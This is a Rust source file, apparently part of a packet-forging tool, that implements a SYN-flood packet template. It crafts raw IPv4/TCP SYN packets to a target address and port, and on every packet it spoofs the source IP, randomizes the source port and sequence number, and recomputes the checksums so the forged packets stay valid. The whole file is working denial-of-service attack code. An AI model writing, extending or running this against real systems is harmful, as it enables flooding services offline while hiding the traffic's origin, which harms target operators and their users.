use pnet::packet::ipv4::MutableIpv4Packet;
use pnet::packet::tcp::MutableTcpPacket;
use rand::Rng;
use std::net::Ipv4Addr;
use tracing::debug;

use crate::error::PktforgeError;
use crate::flood::FloodTemplate;
use crate::layer::IP_PROTOCOL_TCP;
use crate::layer::IPV4_HEADER_SIZE;
use crate::layer::Ipv4Header;
use crate::layer::TcpHeader;
use crate::layer::build_error;
use crate::layer::encode_ipv4;
use crate::layer::encode_tcp;
use crate::layer::finalize_ipv4;
use crate::layer::finalize_tcp;
use crate::utils::random_port;

pub struct SynFloodTemplate {
    buff: Vec<u8>,
    dst_ipv4: Ipv4Addr,
}

impl SynFloodTemplate {
    pub fn new(
        dst_ipv4: Ipv4Addr,
        dst_port: u16,
        ttl: u8,
        ip_id: u16,
        payload_len: usize,
    ) -> Result<SynFloodTemplate, PktforgeError> {
        let payload = vec![0u8; payload_len];
        let syn = TcpHeader::syn(0, dst_port, 0);
        let tcp_buff = encode_tcp(&syn, Ipv4Addr::UNSPECIFIED, dst_ipv4, &payload)?;

        let mut ip = Ipv4Header::new(
            IP_PROTOCOL_TCP,
            Ipv4Addr::UNSPECIFIED,
            dst_ipv4,
            tcp_buff.len(),
        );
        ip.ttl = ttl;
        ip.identification = ip_id;
        let ip_buff = encode_ipv4(&ip)?;

        let mut buff = Vec::with_capacity(IPV4_HEADER_SIZE + tcp_buff.len());
        buff.extend_from_slice(&ip_buff);
        buff.extend_from_slice(&tcp_buff);
        debug!("syn flood template ready, {} bytes to port {}", buff.len(), dst_port);
        Ok(SynFloodTemplate { buff, dst_ipv4 })
    }
}

impl FloodTemplate for SynFloodTemplate {
    fn protocol(&self) -> u8 {
        IP_PROTOCOL_TCP
    }
    fn next_packet<R: Rng + ?Sized>(
        &mut self,
        src_ipv4: Ipv4Addr,
        rng: &mut R,
    ) -> Result<&[u8], PktforgeError> {
        let (ip_buff, tcp_buff) = self.buff.split_at_mut(IPV4_HEADER_SIZE);
        match MutableIpv4Packet::new(ip_buff) {
            Some(mut ip_header) => ip_header.set_source(src_ipv4),
            None => return Err(build_error()),
        }
        match MutableTcpPacket::new(tcp_buff) {
            Some(mut tcp_header) => {
                tcp_header.set_source(random_port(rng));
                tcp_header.set_sequence(rng.random());
            }
            None => return Err(build_error()),
        }
        // the pseudo-header covers the source, so this follows every spoof
        finalize_tcp(tcp_buff, src_ipv4, self.dst_ipv4)?;
        finalize_ipv4(ip_buff)?;
        Ok(&self.buff)
    }
}
